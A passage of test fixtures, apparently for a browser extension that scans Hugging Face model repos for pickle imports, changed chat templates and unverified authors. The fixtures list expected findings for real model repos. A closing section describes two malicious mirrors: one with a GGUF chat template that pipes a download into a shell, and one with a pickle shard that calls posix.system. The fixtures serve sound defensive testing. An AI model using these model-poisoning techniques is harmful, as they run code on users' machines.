    id: "TheBloke/Mistral-7B-Instruct-v0.2-GGUF",
    story: "TheBloke's 12 quantizations of Mistral 7B Instruct v0.2, 3 to 7.7 GB, a 32k-token vocabulary: every header fits the budget.",
    author: user("TheBloke", "2023-03-01T00:00:00.000Z", 25_000),
    tags: ["transformers", "gguf", "mistral", "finetuned", "text-generation"],
    cardData: { base_model: "mistralai/Mistral-7B-Instruct-v0.2", model_creator: "Mistral AI_", quantized_by: "TheBloke", license: "apache-2.0" },
    files: [
      gitattributes, readme(20_500), small("config.json", 31),
      ...Object.entries({ Q2_K: 3.08, Q3_K_L: 3.82, Q3_K_M: 3.52, Q3_K_S: 3.16, Q4_0: 4.11, Q4_K_M: 4.37, Q4_K_S: 4.14, Q5_0: 5.0, Q5_K_M: 5.13, Q5_K_S: 5.0, Q6_K: 5.94, Q8_0: 7.7 }).map(([quant, gigabytes]) =>
        gguf(`mistral-7b-instruct-v0.2.${quant}.gguf`, "popular-mistral-7b", gigabytes * GB),
      ),
    ],
    gguf: { total: 7_241_732_096, architecture: "llama", context_length: 32_768, chat_template: MIXTRAL_TEMPLATE, bos_token: "<s>", eos_token: "</s>" },
    scansDone: true,
    expect: { level: "info", findings: ["unverified-author"] },
  },
  {
    type: "model",
    id: "lmstudio-community/gemma-2-9b-it-GGUF",
    story: "LM Studio's six quantizations of Gemma 2 9B, 5 to 9.8 GB, with Gemma's 256k-token vocabulary.",
    author: org("lmstudio-community", false, 4_000),
    tags: ["gguf", "text-generation", "conversational"],
    cardData: { base_model: "google/gemma-2-9b-it", quantized_by: "bartowski", license: "gemma" },
    files: [gitattributes, readme(3_900), ...quantizations("gemma-2-9b-it", "popular-gemma2-9b", { IQ4_XS: 5.18 * GB, Q3_K_L: 5.13 * GB, Q4_K_M: 5.76 * GB, Q5_K_M: 6.65 * GB, Q6_K: 7.59 * GB, Q8_0: 9.83 * GB })],
    gguf: { total: 9_241_705_984, architecture: "gemma2", context_length: 8_192, chat_template: GEMMA, bos_token: "<bos>", eos_token: "<eos>" },
    scansDone: true,
    expect: { level: "info", findings: ["chat-template", "unverified-author"] },
  },
  // ---- gated official models -------------------------------------------------------------------
  {
    type: "model",
    id: "meta-llama/Llama-3.1-8B-Instruct",
    // Renamed from Meta-Llama-3.1-8B-Instruct: cards that name the old id (bartowski's) are redirected.
    legacyId: "meta-llama/Meta-Llama-3.1-8B-Instruct",
    story: "Llama 3.1 8B Instruct, gated: its tokenizer_config.json is refused, the Hub's model info carries the template; original/consolidated.00.pth beside four safetensors shards.",
    author: org("meta-llama", true, 40_000),
    gated: "manual",
    tags: ["transformers", "safetensors", "llama", "text-generation", "facebook", "meta", "pytorch", "llama-3", "conversational"],
    config: { architectures: ["LlamaForCausalLM"], model_type: "llama", tokenizer_config: { bos_token: "<|begin_of_text|>", eos_token: "<|eot_id|>", pad_token: null, chat_template: LLAMA31_TEMPLATE } },
    files: [
      gitattributes, small("LICENSE", 7_630), readme(44_000), small("USE_POLICY.md", 4_690), small("config.json", 855), small("generation_config.json", 184),
      weights("model-00001-of-00004.safetensors", 4.98 * GB), weights("model-00002-of-00004.safetensors", 5 * GB), weights("model-00003-of-00004.safetensors", 4.92 * GB), weights("model-00004-of-00004.safetensors", 1.17 * GB), small("model.safetensors.index.json", 23_900),
      pickle("original/consolidated.00.pth", 16.1 * GB), small("original/params.json", 199), small("original/tokenizer.model", 2_180_000),
      small("special_tokens_map.json", 296), small("tokenizer.json", 9_090_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<|begin_of_text|>", eos_token: "<|eot_id|>", chat_template: LLAMA31_TEMPLATE, tokenizer_class: "PreTrainedTokenizerFast" }),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights", "chat-template"] },
  },
  {
    type: "model",
    id: "google/gemma-2-9b-it",
    story: "Gemma 2 9B it, gated: four safetensors shards, the template only in the model info for anonymous readers.",
    author: org("google", true, 30_000),
    gated: "manual",
    tags: ["transformers", "safetensors", "gemma2", "text-generation", "conversational"],
    config: { architectures: ["Gemma2ForCausalLM"], model_type: "gemma2", tokenizer_config: { bos_token: "<bos>", eos_token: "<eos>", pad_token: "<pad>", chat_template: GEMMA } },
    files: [
      gitattributes, readme(24_300), small("config.json", 857), small("generation_config.json", 173),
      weights("model-00001-of-00004.safetensors", 4.9 * GB), weights("model-00002-of-00004.safetensors", 4.95 * GB), weights("model-00003-of-00004.safetensors", 4.96 * GB), weights("model-00004-of-00004.safetensors", 3.67 * GB), small("model.safetensors.index.json", 39_900),
      small("special_tokens_map.json", 636), small("tokenizer.json", 17_500_000), small("tokenizer.model", 4_240_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<bos>", eos_token: "<eos>", chat_template: GEMMA, tokenizer_class: "GemmaTokenizer" }),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["chat-template"] },
  },
  {
    type: "model",
    id: "mistralai/Mistral-7B-Instruct-v0.3",
    story: "Mistral 7B Instruct v0.3, gated: consolidated.safetensors for mistral-inference beside the transformers shards.",
    author: org("mistralai", true, 12_000),
    gated: "auto",
    tags: ["transformers", "safetensors", "mistral", "text-generation", "conversational"],
    config: { architectures: ["MistralForCausalLM"], model_type: "mistral", tokenizer_config: { bos_token: "<s>", eos_token: "</s>", chat_template: MIXTRAL_TEMPLATE } },
    files: [
      gitattributes, readme(7_100), small("config.json", 601), weights("consolidated.safetensors", 14.5 * GB), small("generation_config.json", 116),
      weights("model-00001-of-00003.safetensors", 4.95 * GB), weights("model-00002-of-00003.safetensors", 5 * GB), weights("model-00003-of-00003.safetensors", 4.55 * GB), small("model.safetensors.index.json", 23_900), small("params.json", 202),
      small("special_tokens_map.json", 414), small("tokenizer.json", 3_670_000), small("tokenizer.model", 587_000), small("tokenizer.model.v3", 587_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<s>", eos_token: "</s>", chat_template: MIXTRAL_TEMPLATE, tokenizer_class: "LlamaTokenizer" }),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["chat-template"] },
  },
  // ---- the base models the quantizations above name (their templates are compared: issue 26) ----
  {
    type: "model",
    id: "Qwen/Qwen2.5-14B-Instruct",
    story: "Qwen2.5 14B Instruct, the base bartowski's quantization names: eight safetensors shards, its template in tokenizer_config.json and the model info.",
    author: org("Qwen", true, 20_000),
    tags: ["transformers", "safetensors", "qwen2", "text-generation", "chat", "conversational"],
    config: { architectures: ["Qwen2ForCausalLM"], model_type: "qwen2", tokenizer_config: { bos_token: null, eos_token: "<|im_end|>", pad_token: "<|endoftext|>", chat_template: QWEN25_TEMPLATE } },
    files: [
      gitattributes, small("LICENSE", 11_300), readme(6_400), small("config.json", 663), small("generation_config.json", 242), small("merges.txt", 1_670_000),
      ...[1, 2, 3, 4, 5, 6, 7, 8].map((shard) => weights(`model-0000${shard}-of-00008.safetensors`, 3.7 * GB)), small("model.safetensors.index.json", 48_000),
      small("tokenizer.json", 7_030_000), tokenizerConfig("tokenizer_config.json", { eos_token: "<|im_end|>", chat_template: QWEN25_TEMPLATE, tokenizer_class: "Qwen2Tokenizer" }), small("vocab.json", 2_780_000),
    ],
    scansDone: true,
    expect: { level: "ok", findings: [] },
  },
  {
    type: "model",
    id: "Qwen/Qwen3-30B-A3B",
    story: "Qwen3 30B A3B, the base unsloth's quantization names: sixteen safetensors shards.",
    author: org("Qwen", true, 20_000),
    tags: ["transformers", "safetensors", "qwen3_moe", "text-generation", "conversational"],
    config: { architectures: ["Qwen3MoeForCausalLM"], model_type: "qwen3_moe", tokenizer_config: { bos_token: null, eos_token: "<|im_end|>", pad_token: "<|endoftext|>", chat_template: QWEN3_TEMPLATE } },
    files: [
      gitattributes, small("LICENSE", 11_300), readme(16_900), small("config.json", 963), small("generation_config.json", 239), small("merges.txt", 1_670_000),
      ...Array.from({ length: 16 }, (_, index) => weights(`model-${String(index + 1).padStart(5, "0")}-of-00016.safetensors`, 3.8 * GB)), small("model.safetensors.index.json", 1_720_000),
      small("tokenizer.json", 7_030_000), tokenizerConfig("tokenizer_config.json", { eos_token: "<|im_end|>", chat_template: QWEN3_TEMPLATE, tokenizer_class: "Qwen2Tokenizer" }), small("vocab.json", 2_780_000),
    ],
    scansDone: true,
    expect: { level: "ok", findings: [] },
  },
  {
    type: "model",
    id: "mistralai/Mistral-7B-Instruct-v0.2",
    story: "Mistral 7B Instruct v0.2, gated, the base TheBloke's quantization names: the template only in the model info for anonymous readers; pytorch_model.bin shards beside the safetensors ones.",
    author: org("mistralai", true, 12_000),
    gated: "auto",
    tags: ["transformers", "pytorch", "safetensors", "mistral", "text-generation", "conversational"],
    config: { architectures: ["MistralForCausalLM"], model_type: "mistral", tokenizer_config: { bos_token: "<s>", eos_token: "</s>", chat_template: MIXTRAL_TEMPLATE } },
    files: [
      gitattributes, readme(5_400), small("config.json", 596), small("generation_config.json", 111),
      weights("model-00001-of-00003.safetensors", 4.94 * GB), weights("model-00002-of-00003.safetensors", 5 * GB), weights("model-00003-of-00003.safetensors", 4.54 * GB), small("model.safetensors.index.json", 23_900),
      pickle("pytorch_model-00001-of-00003.bin", 4.94 * GB), pickle("pytorch_model-00002-of-00003.bin", 5 * GB), pickle("pytorch_model-00003-of-00003.bin", 5.06 * GB), small("pytorch_model.bin.index.json", 23_900),
      small("special_tokens_map.json", 414), small("tokenizer.json", 1_800_000), small("tokenizer.model", 493_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<s>", eos_token: "</s>", chat_template: MIXTRAL_TEMPLATE, tokenizer_class: "LlamaTokenizer" }),
    ],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights", "chat-template"] },
  },
  // ---- Keras, timm, pyannote, CoreML ----------------------------------------------------------
  {
    type: "model",
    id: "keras/bert_base_en_uncased",
    story: "A KerasHub preset: config.json, task.json, model.weights.h5 (HDF5 weights, no model config) and tokenizer assets.",
    author: org("keras", true, 2_000),
    tags: ["keras-hub", "text-classification", "keras"],
    files: [gitattributes, readme(2_300), small("assets/tokenizer/vocabulary.txt", 232_000), small("config.json", 549), small("metadata.json", 141), h5("model.weights.h5", 438 * MB), small("preprocessor.json", 1_020), small("task.json", 2_240), small("tokenizer.json", 629)],
    scansDone: true,
    expect: { level: "ok", findings: [] },
  },
  {
    type: "model",
    id: "timm/resnet50.a1_in1k",
    story: "timm ResNet-50: model.safetensors beside pytorch_model.bin.",
    author: org("timm", true, 3_000),
    tags: ["timm", "pytorch", "safetensors", "image-classification"],
    files: [gitattributes, readme(9_800), small("config.json", 707), weights("model.safetensors", 102 * MB), pickle("pytorch_model.bin", 103 * MB)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "timm/vit_base_patch16_224.augreg2_in21k_ft_in1k",
    story: "timm ViT-B/16: model.safetensors beside pytorch_model.bin.",
    author: org("timm", true, 3_000),
    tags: ["timm", "pytorch", "safetensors", "image-classification"],
    files: [gitattributes, readme(4_600), small("config.json", 732), weights("model.safetensors", 346 * MB), pickle("pytorch_model.bin", 346 * MB)],
    scansDone: true,
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  {
    type: "model",
    id: "pyannote/segmentation-3.0",
    story: "pyannote's segmentation model, gated: one Lightning checkpoint as pytorch_model.bin, no safetensors copy.",
    author: org("pyannote", false, 2_500),
    gated: "auto",
    tags: ["pyannote-audio", "pytorch", "pyannote", "audio", "voice-activity-detection"],
    files: [
      gitattributes, readme(5_900), small("config.yaml", 399),
      pickle("pytorch_model.bin", 5.91 * MB, [
        ...TORCH_IMPORTS,
        { module: "torch.torch_version", name: "TorchVersion", safety: "innocuous" },
        { module: "pyannote.audio.core.task", name: "Specifications", safety: "suspicious" },
        { module: "pyannote.audio.core.task", name: "Problem", safety: "suspicious" },
        { module: "pyannote.audio.core.task", name: "Resolution", safety: "suspicious" },
      ]),
    ],
    scansDone: true,
    // pickle-imports at info: pyannote's task description (a dataclass and two enums), which the Hub calls suspicious, is on Hub Sentinel's list.
    expect: { level: "info", findings: ["pickle-weights", "pickle-imports", "unverified-author"] },
  },
  {
    type: "model",
    id: "pyannote/speaker-diarization-3.1",
    story: "pyannote's diarization pipeline, gated: a config.yaml naming other repos' models, and handler.py for Inference Endpoints.",
    author: org("pyannote", false, 2_500),
    gated: "auto",
    tags: ["pyannote-audio", "pyannote", "audio", "voice", "speaker-diarization"],
    files: [gitattributes, readme(8_200), small("config.yaml", 469), small("handler.py", 1_910), small("reproducible_research/AISHELL.SpeakerDiarization.Benchmark.test.rttm", 1_020_000), small("requirements.txt", 22)],
    scansDone: true,
    // remote-code at info: handler.py (for Inference Endpoints) is a .py file that nothing loads.
    expect: { level: "info", findings: ["remote-code", "unverified-author"] },
  },
  {
    type: "model",
    id: "apple/coreml-stable-diffusion-2-1-base",
    story: "Apple's Core ML Stable Diffusion: compiled models as .mlmodelc.zip archives (no pickle inside) and .mlpackage folders whose weight.bin is raw tensors.",
    author: org("apple", true, 9_000),
    // The Hub's pickle scan opens zips too; these hold no pickle, so it lists no import.
    tags: ["core-ml", "stable-diffusion", "text-to-image"],
    files: [
      gitattributes, readme(11_800),
      weights("original/compiled/TextEncoder.mlmodelc.zip", 235 * MB, { ...ZIP_SCANNED, content: "sparse-coreml:TextEncoder" }), weights("original/compiled/Unet.mlmodelc.zip", 1.6 * GB, { ...ZIP_SCANNED, content: "sparse-coreml:Unet" }), weights("original/compiled/VAEDecoder.mlmodelc.zip", 91.5 * MB, { ...ZIP_SCANNED, content: "sparse-coreml:VAEDecoder" }), small("original/compiled/merges.txt", 525_000), small("original/compiled/vocab.json", 862_000),
      small("original/packages/TextEncoder.mlpackage/Data/com.apple.CoreML/model.mlmodel", 64_200), weights("original/packages/TextEncoder.mlpackage/Data/com.apple.CoreML/weights/weight.bin", 680 * MB, { imports: [] }), small("original/packages/TextEncoder.mlpackage/Manifest.json", 617),
      weights("split_einsum/compiled/TextEncoder.mlmodelc.zip", 235 * MB, { ...ZIP_SCANNED, content: "sparse-coreml:TextEncoder" }), weights("split_einsum/compiled/Unet.mlmodelc.zip", 1.6 * GB, { ...ZIP_SCANNED, content: "sparse-coreml:Unet" }), weights("split_einsum/compiled/VAEDecoder.mlmodelc.zip", 91.5 * MB, { ...ZIP_SCANNED, content: "sparse-coreml:VAEDecoder" }),
    ],
    scansDone: true,
    // pickle-weights at info for the .mlpackage's weight.bin (raw tensors, named like a pickle); the zips hold no pickle, so they are not pickle weights.
    expect: { level: "info", findings: ["pickle-weights"] },
  },
  // ---- malicious variants that must still be caught -------------------------------------------
  {
    type: "model",
    id: "quant-mirror/Qwen2.5-14B-Instruct-GGUF",
    story: "A copy of bartowski's 25 Qwen2.5 quantizations whose most used one, Q4_K_M, carries a template that pipes a download into a shell; the Hub's model info shows the clean template of another file.",
    author: user("quant-mirror", "2024-11-02T00:00:00.000Z", 3),
    tags: ["gguf", "text-generation", "conversational"],
    cardData: { base_model: "Qwen/Qwen2.5-14B-Instruct", license: "apache-2.0" },
    files: [
      gitattributes,
      readme(12_300),
      ...quantizations("Qwen2.5-14B-Instruct", "popular-qwen25-14b", QWEN25_14B_SIZES).map((file) => (file.path.endsWith("-Q4_K_M.gguf") ? { ...file, content: "gguf:popular-qwen25-14b-poisoned" } : file)),
    ],
    gguf: qwen25Gguf,
    scansDone: true,
    expect: { level: "danger", findings: ["chat-template", "template-changed", "unverified-author"] },
  },
  {
    type: "model",
    id: "shard-mirror/Llama-2-7b-hf",
    story: "A re-upload of Llama 2 7B as two pickle shards, the Hub's scans still queued: the second shard's data.pkl calls posix.system, found by the extension's own scan.",
    author: user("shard-mirror", "2024-06-15T00:00:00.000Z", 1),
    tags: ["transformers", "pytorch", "llama", "text-generation"],
    config: { architectures: ["LlamaForCausalLM"], model_type: "llama" },
    files: [
      gitattributes, readme(3_100), small("config.json", 609), small("generation_config.json", 188),
      pickle("pytorch_model-00001-of-00002.bin", 9.98 * GB, [], { scan: "queued", scanners: { pickleImportScan: { status: "queued" }, avScan: { status: "queued" } }, content: "sparse-torch:benign-torch.pt" }),
      pickle("pytorch_model-00002-of-00002.bin", 3.5 * GB, [], { scan: "queued", scanners: { pickleImportScan: { status: "queued" }, avScan: { status: "queued" } }, content: "sparse-torch:posix-system-torch.pt" }),
      small("pytorch_model.bin.index.json", 26_800), small("special_tokens_map.json", 414), small("tokenizer.model", 500_000), tokenizerConfig("tokenizer_config.json", { bos_token: "<s>", eos_token: "</s>", tokenizer_class: "LlamaTokenizer" }),
    ],
    scansDone: false,
    expect: { level: "danger", findings: ["pickle-weights", "pickle-imports", "scan-incomplete", "unverified-author"] },
  },
];
